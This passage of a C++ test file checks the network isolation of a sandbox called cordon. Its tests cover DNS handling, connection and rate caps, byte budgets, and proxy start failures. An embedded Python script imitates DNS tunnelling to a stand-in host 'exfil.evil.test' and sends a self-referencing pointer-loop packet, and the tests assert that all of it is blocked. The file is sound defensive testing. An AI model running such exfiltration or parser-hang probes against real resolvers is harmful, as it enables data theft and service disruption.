    return {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}.get(r[3] & 15, "rcode%d" % (r[3] & 15))
def tcp(pkt):
    s = socket.create_connection((ns, 53), timeout=10)
    s.sendall(struct.pack(">H", len(pkt)) + pkt)
    n = struct.unpack(">H", s.recv(2))[0]
    r = b""
    while len(r) < n:
        r += s.recv(n - len(r))
    return {3: "NXDOMAIN", 5: "REFUSED"}.get(r[3] & 15, "rcode%d" % (r[3] & 15))
qid = 1
for i in range(40):
    name = ".".join(label(63) for _ in range(3)) + ".t%d.exfil.evil.test" % i
    print("tunnel", udp(query(qid, name, (1, 16, 10, 28)[i % 4])))
    qid += 1
for i in range(4):
    print("tunnel-tcp", tcp(query(qid, label(50) + ".exfil.evil.test", 16)))
    qid += 1
for t in (16, 10, 255, 15):
    print("type%d" % t, udp(query(qid, "api.test", t)))
    qid += 1
# The question's name is a pointer to itself (offset 12): a parser that follows it never ends.
print("loop", udp(struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack(">HH", 1, 1)))
try:
    socket.getaddrinfo(label(40) + ".exfil.evil.test", 80)
    print("libc resolved")
except socket.gaierror as e:
    print("libc", e.args[0] == socket.EAI_NONAME)
print("after", udp(query(qid + 1, "api.test", 1)))
)";

// A fake upstream resolver on its own loopback address (127.83.x.y:53) that counts every query,
// made the host resolver of the session's cordon-netproxy: CORDON_NETPROXY_BIN names a wrapper
// that gives the proxy a mount namespace of its own (in a user namespace, as the proxy no longer
// runs as root) with a resolv.conf naming the fake bound over /etc/resolv.conf. Nothing of the
// host changes, and cordon itself keeps the host's view (its sandbox's /etc is built from it).
class FakeHostResolver {
 public:
  explicit FakeHostResolver(const TempDir& dir) {
    for (int i = 0; i < 8 && !(up_ && up_->ok()); ++i) {
      ip_ = "127.83." + std::to_string(::getpid() % 250) + "." + std::to_string(1 + (i * 37) % 250);
      up_ = std::make_unique<Upstreams>(std::vector<std::string>{"dns=" + ip_ + ":53"});
    }
    const std::string resolv = dir / "fake-resolv.conf";
    write_text(resolv, "nameserver " + ip_ + "\noptions timeout:2 attempts:1\n");
    wrapper_ = dir / "netproxy-with-fake-resolver";
    write_text(wrapper_,
               "#!/bin/sh\nexec unshare --user --map-root-user --mount --propagation private sh -c "
               "'mount --bind " +
                   resolv + " /etc/resolv.conf && exec \"$@\"' sh " +
                   build_path("netproxy/cordon-netproxy") + " \"$@\"\n",
               0755);
  }
  bool ok() const { return up_ && up_->ok(); }
  int queries() const { return up_->stats().value("dns_queries", -1); }
  std::string env() const { return "CORDON_NETPROXY_BIN=" + wrapper_; }

 private:
  std::string ip_, wrapper_;
  std::unique_ptr<Upstreams> up_;
};

// A DNS tunnelling attempt from inside the sandbox: every query is answered locally by the
// proxy (NXDOMAIN for names not allowed, REFUSED for types not granted, FORMERR for a pointer
// loop), each is one event, and the host's resolver - a fake that counts - receives ZERO of them.
// The same fake does receive the query for an allowed, unpinned name, so the count is live.
TEST(Network, DnsTunnellingReachesNoUpstreamResolver) {
  CORDON_REQUIRE_ROOT();  // the fake resolver listens on port 53
  auto sink = sink_if_root();
  CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  FakeHostResolver fake(n.files());
  ASSERT_TRUE(fake.ok());
  n.set_policy(R"({"version": 1, "network": {"allow": ["api.test:)" +
               std::to_string(n.http_port()) + R"(", "real.test"],
               "resolve": {"api.test": "127.0.0.1"}}})");
  n.script("burst.py", kDnsBurstPy);
  n.fixture().env().push_back(fake.env());
  auto r = n.sh("python3 burst.py");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  std::string expect;
  for (int i = 0; i < 40; ++i) expect += "tunnel NXDOMAIN\n";
  for (int i = 0; i < 4; ++i) expect += "tunnel-tcp NXDOMAIN\n";
  expect += "type16 REFUSED\ntype10 REFUSED\ntype255 REFUSED\ntype15 REFUSED\n";
  expect += "loop FORMERR\nlibc True\nafter NOERROR\n";
  EXPECT_EQ(r.out, expect) << r.err;
  EXPECT_EQ(fake.queries(), 0) << "the host resolver was asked during the tunnelling attempt";
  EXPECT_EQ(sink->hits(), 0);

  // One event per query, no more: 44 NXDOMAIN (the libc lookup adds its A and AAAA questions),
  // 4 REFUSED, 1 FORMERR.
  std::vector<nlohmann::json> dns;  // the proxy's (the shim logs the libc lookup too)
  for (auto& e : n.events("net.dns")) {
    if (e.value("source", "") == "netproxy") dns.push_back(e);
  }
  auto rcodes = [&](const std::string& rcode, const std::string& name_part) {
    return count_if(dns, [&](const nlohmann::json& e) {
      return e.value("rcode", "") == rcode && e.value("decision", "") == "deny" &&
             e.value("name", "").find(name_part) != std::string::npos;
    });
  };
  size_t libc = rcodes("NXDOMAIN", "exfil.evil.test") - 44;
  EXPECT_GE(libc, 1u) << dump(dns);
  EXPECT_LE(libc, 4u) << dump(dns);  // A and AAAA, each possibly retried once
  EXPECT_EQ(rcodes("REFUSED", "api.test"), 4u) << dump(dns);
  EXPECT_EQ(
      count_if(dns, [](const nlohmann::json& e) { return e.value("rcode", "") == "FORMERR"; }), 1u)
      << dump(dns);
  EXPECT_EQ(dns.size(), 44 + libc + 4 + 1 + 1) << dump(dns);  // + the final api.test A

  // The control: an allowed name with no pin is resolved on the host side - by the fake.
  auto c = n.sh(
      "python3 -c 'import socket\ntry: socket.getaddrinfo(\"real.test\", 80)\n"
      "except socket.gaierror: pass'");
  EXPECT_EQ(c.exit_code(), 0) << c.err;
  EXPECT_GE(fake.queries(), 1);
}

// Connections from inside the sandbox to the echo server, by name: `open NAME` (a connection
// that proves itself with an echo round trip), `http NAME` (a request on a new connection: the
// proxy's refusal is readable), `close I` (the I-th open connection, until the proxy passes the
// end on), `send I BYTES` (bytes out on the I-th connection; prints how many came back before
// it ended). One line of output per step.
constexpr const char* kConnsPy = R"(import socket, sys, time
port = int(sys.argv[1])
conns = []
def echo(s, data):
    s.sendall(data)
    got = b""
    try:
        while len(got) < len(data):
            d = s.recv(65536)
            if not d:
                break
            got += d
    except OSError:
        pass
    return len(got)
for step in sys.argv[2:]:
    op, arg = step.split(":", 1)
    if op == "open":
        s = socket.create_connection((arg, port), timeout=20)
        conns.append(s)
        print("open", arg, "echo" if echo(s, b"ping") == 4 else "failed")
    elif op == "http":
        s = socket.create_connection((arg, port), timeout=20)
        s.sendall(b"GET / HTTP/1.0\r\nHost: " + arg.encode() + b"\r\n\r\n")
        r = b""
        try:
            while True:
                d = s.recv(65536)
                if not d:
                    break
                r += d
        except OSError:
            pass
        print("http", arg, r.split(b"\r\n")[0].decode(), r.split(b"\r\n\r\n", 1)[-1].decode().strip())
    elif op == "close":
        s = conns[int(arg)]
        s.shutdown(socket.SHUT_WR)
        while s.recv(65536):
            pass
        s.close()
        print("closed", arg)
    elif op == "send":
        i, n = (int(x) for x in arg.split(","))
        print("sent", n, "echoed", echo(conns[i], b"x" * n))
)";

// Runs conns.py's `steps` in the sandbox under api.test, b.test and c.test on the echo port with
// these network caps.
RunResult run_conns(NetworkSession& n, const std::string& caps, const std::string& steps) {
  const std::string e = std::to_string(n.echo_port());
  n.set_policy(R"({"version": 1, "network": {"allow": ["api.test:)" + e + R"(", "b.test:)" + e +
               R"(", "c.test:)" + e + R"("], "resolve": {"api.test": "127.0.0.1",
               "b.test": "127.0.0.1", "c.test": "127.0.0.1"}, )" +
               caps + "}}");
  n.script("conns.py", kConnsPy);
  return n.sh("python3 conns.py " + e + " " + steps);
}

size_t cap_refusals(const std::vector<nlohmann::json>& evs, const std::string& cap,
                    const std::string& name) {
  return count_if(evs, [&](const nlohmann::json& e) {
    return e.value("kind", "") == "net.refused" && e.value("decision", "") == "deny" &&
           e.value("cap", "") == cap && e.value("rule", "") == cap && e.value("name", "") == name;
  });
}

// max_connections_per_host 2 and max_connections 3, reached exactly: the third concurrent
// connection to one name is refused naming the per-host cap, the fourth overall the global cap;
// a connection that ends frees its slot.
TEST(Network, ConcurrentConnectionCapsAreReachedExactly) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = run_conns(n, R"("max_connections": 3, "max_connections_per_host": 2)",
                     "open:api.test open:api.test http:api.test open:b.test http:c.test close:0 "
                     "open:api.test");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "open api.test echo\nopen api.test echo\n"
            "http api.test HTTP/1.0 403 Forbidden cordon: connection cap for api.test: "
            "network.max_connections_per_host (2) reached\n"
            "open b.test echo\n"
            "http c.test HTTP/1.0 403 Forbidden cordon: connection cap network.max_connections "
            "(3) reached\n"
            "closed 0\nopen api.test echo\n")
      << r.err;
  auto evs = n.events();
  EXPECT_EQ(cap_refusals(evs, "network.max_connections_per_host", "api.test"), 1u) << dump(evs);
  EXPECT_EQ(cap_refusals(evs, "network.max_connections", "c.test"), 1u) << dump(evs);
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "limit.hit" &&
                              (e.value("cap", "") == "network.max_connections_per_host" ||
                               e.value("cap", "") == "network.max_connections");
                     }),
            2u)
      << dump(evs);
  EXPECT_EQ(n.upstream_stats().value("echo_conns", -1), 4);
}

// connections_per_minute 4: four new connections in the minute, the fifth refused naming the
// rate cap (even with no other connection open). The five run back to back, well inside a minute.
TEST(Network, NewConnectionsPerMinuteCapIsReachedExactly) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = run_conns(n, R"("connections_per_minute": 4)",
                     "open:api.test close:0 open:b.test close:1 open:c.test close:2 open:api.test "
                     "close:3 http:b.test");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "open api.test echo\nclosed 0\nopen b.test echo\nclosed 1\nopen c.test echo\nclosed 2\n"
            "open api.test echo\nclosed 3\n"
            "http b.test HTTP/1.0 403 Forbidden cordon: rate cap network.connections_per_minute "
            "(4) reached\n")
      << r.err;
  auto evs = n.events();
  EXPECT_EQ(cap_refusals(evs, "network.connections_per_minute", "b.test"), 1u) << dump(evs);
  EXPECT_EQ(n.upstream_stats().value("echo_conns", -1), 4);
}

// max_bytes_out 1000: exactly 1000 bytes reach the upstream over two connections (the second is
// cut at the budget), and a new connection is refused naming the budget.
TEST(Network, BytesOutBudgetPassesExactlyTheBudget) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = run_conns(n, R"("max_bytes_out": 1000)",
                     "open:api.test send:0,596 close:0 open:b.test send:1,600 http:c.test");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  // 4 ("ping") + 596 on the first connection; "ping" + 396 of the 600 on the second, then the
  // cut (what the echo returned before the cut reached the client varies: not asserted).
  EXPECT_THAT(r.out, ::testing::StartsWith("open api.test echo\nsent 596 echoed 596\nclosed 0\n"
                                           "open b.test echo\nsent 600 echoed "))
      << r.err;
  EXPECT_THAT(r.out, ::testing::EndsWith("http c.test HTTP/1.0 403 Forbidden cordon: byte "
                                         "budget network.max_bytes_out (1000) reached\n"))
      << r.out << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("echoed 600"))) << r.out;
  // The upstream got exactly the budget (its counter may trail the session's end by a moment).
  int got = 0;
  for (int i = 0; i < 100 && got < 1000; ++i) {
    got = n.upstream_stats().value("echo_bytes", -1);
    if (got < 1000) usleep(20000);
  }
  EXPECT_EQ(got, 1000);
  auto evs = n.events();
  EXPECT_EQ(cap_refusals(evs, "network.max_bytes_out", "c.test"), 1u) << dump(evs);
  uint64_t out = 0;
  for (const auto& e : evs) {
    if (e.value("kind", "") == "net.connect" && e.value("decision", "") == "allow") {
      out += e.value("bytes_out", uint64_t{0});
    }
  }
  EXPECT_EQ(out, 1000u) << dump(evs);
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.connect" &&
                              e.value("name", "") == "b.test" &&
                              e.value("end", "") == "network.max_bytes_out";
                     }),
            1u)
      << dump(evs);
}

// The program starts only once the proxy is ready; a proxy that exits before it is ready fails
// the launch with its own words and exit 125, and the program never runs.
TEST(Network, ProxyThatFailsToStartFailsTheLaunchBeforeTheProgramRuns) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  n.fixture().make_workspace_owned();
  // Slow to fail, so a program released early would certainly have run first.
  const std::string fake = n.files() / "fake-netproxy";
  write_text(fake,
             "#!/bin/sh\nsleep 1\necho 'fake-netproxy: cannot serve this session' >&2\nexit 3\n",
             0755);
  n.fixture().env().push_back("CORDON_NETPROXY_BIN=" + fake);
  auto r = n.sh("touch ran; echo ran");
  EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;
  EXPECT_EQ(r.out, "");
  EXPECT_THAT(r.err, HasSubstr("cordon: network: cordon-netproxy (" + fake +
                               ") exited (status 3) before it was ready: fake-netproxy: cannot "
                               "serve this session"))
      << r.err;
  EXPECT_NE(::access((n.fixture().ws() + "/ran").c_str(), F_OK), 0);
  auto end = n.events("session.end");
  ASSERT_EQ(end.size(), 1u);
  EXPECT_THAT(end[0].dump(), HasSubstr("before it was ready")) << end[0].dump();
}

// The sockets reach cordon (and the proxy starts) before the capture ruleset is installed; a
// ruleset that then fails still fails the launch, with its message, and the program never runs.
// A cordon copy whose cordon-capture.so opens its sockets but refuses the ruleset.
TEST(Network, CaptureRulesetFailureFailsTheLaunchBeforeTheProgramRuns) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  n.fixture().make_workspace_owned();
  TempDir bin;
  auto cp = run_program(
      {"cp", cordon_bin(), build_path("preload_shim/libcordon_preload.so"), bin.path()});
  ASSERT_EQ(cp.exit_code(), 0) << cp.err;
  write_text(bin / "plugin.c", R"(#include <stddef.h>
#include <stdio.h>
#include <linux/netlink.h>
#include <sys/socket.h>
int cordon_capture_open_nflog(const void* args, char* err, size_t n) {
  (void)args; (void)err; (void)n;
  return socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_NETFILTER);
}
int cordon_capture_install(const void* args, char* err, size_t n) {
  (void)args;
  snprintf(err, n, "test plugin: no ruleset today");
  return -1;
}
)");
  auto cc =
      run_program({"gcc", "-shared", "-fPIC", "-o", bin / "cordon-capture.so", bin / "plugin.c"});
  ASSERT_EQ(cc.exit_code(), 0) << cc.err;
  n.fixture().env().push_back("CORDON_NETPROXY_BIN=" + build_path("netproxy/cordon-netproxy"));
  RunSpec spec;
  spec.env = n.fixture().env();
  spec.cwd = n.fixture().ws();
  spec.deadline = std::chrono::seconds(60);
  auto r = run_program({bin / "cordon", "run", "--workspace", n.fixture().ws(), "-q", "--mode",
                        "ro", "--policy", n.policy(), "--", "sh", "-c", "touch ran; echo ran"},
                       spec);
  EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;
  EXPECT_EQ(r.out, "");
  EXPECT_THAT(r.err, HasSubstr("network capture ruleset: test plugin: no ruleset today")) << r.err;
  EXPECT_NE(::access((n.fixture().ws() + "/ran").c_str(), F_OK), 0);
}

// spawn_netproxy's host-listener variant (the shim's --no-namespaces mode): the proxy picks a port
// on the host's 127.0.0.1, serves the policy there, logs to the events fd, and is stopped and
// reaped with its NetproxyProcess.
TEST(NetSidecar, HostListenerServesAndStopsWithItsOwner) {
  TempDir dir;
  ASSERT_TRUE(make_test_files(dir));
  Upstreams up({"root=" + dir.path() + "/www"});
  ASSERT_TRUE(up.ok());
  std::string policy = dir / "policy.json";
  write_text(policy, R"({"version": 1, "network": {"allow": ["api.test:)" +
                         std::to_string(up.port("http")) +
                         R"("], "resolve": {"api.test": "127.0.0.1"}}})");
  launcher::NetproxySpawn spec;
  spec.policy_path = policy;
  spec.binary = build_path("netproxy/cordon-netproxy");
  spec.session_id = "sidecar-test";
  spec.events_path = dir / "events.jsonl";
  spec.listen_on_host = true;
  spec.log_path = dir / "netproxy.log";
  pid_t pid;
  {
    auto proxy = launcher::spawn_netproxy(spec);
    ASSERT_TRUE(proxy.ok()) << proxy.error().to_string();
    pid = proxy->child.pid();
    ASSERT_GT(proxy->host_port, 0);
    std::string url = "http://api.test:" + std::to_string(up.port("http")) + "/hello.txt";
    auto r = run_program({"curl", "-sS", "-m", "20", "--proxy",
                          "http://127.0.0.1:" + std::to_string(proxy->host_port), url});
    EXPECT_EQ(r.out, "hello through cordon\n") << r.err;
    auto denied =
        run_program({"curl", "-sS", "-m", "20", "--proxy",
                     "http://127.0.0.1:" + std::to_string(proxy->host_port), "http://other.test/"});
    EXPECT_THAT(denied.out, HasSubstr("not in network.allow")) << denied.err;
    EXPECT_FALSE(proxy->exited().has_value());
  }
  // Reaped by the destructor: the pid is gone (not a zombie waiting for us).
  EXPECT_NE(::kill(pid, 0), 0);
  auto evs = read_events(dir / "events.jsonl");
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.http" &&
                              e.value("session", "") == "sidecar-test" &&
                              e.value("status", 0) == 200;
                     }),
            1u)
      << dump(evs);
}

// A proxy that cannot start is an error that quotes it, not a hang.
TEST(NetSidecar, StartFailureIsReportedWithTheProxysWords) {
  TempDir dir;
  std::string policy = dir / "policy.json";
  write_text(policy, R"({"version": 1, "network": {"alow": []}})");
  launcher::NetproxySpawn spec;
  spec.policy_path = policy;
  spec.binary = build_path("netproxy/cordon-netproxy");
  spec.session_id = "bad";
  spec.listen_on_host = true;
  spec.log_path = dir / "netproxy.log";
  auto proxy = launcher::spawn_netproxy(spec);
  ASSERT_FALSE(proxy.ok());
  EXPECT_THAT(proxy.error().to_string(), HasSubstr("before it was ready"));
  EXPECT_THAT(proxy.error().to_string(), HasSubstr("network.alow"));
}

}  // namespace
}  // namespace cordon::testing
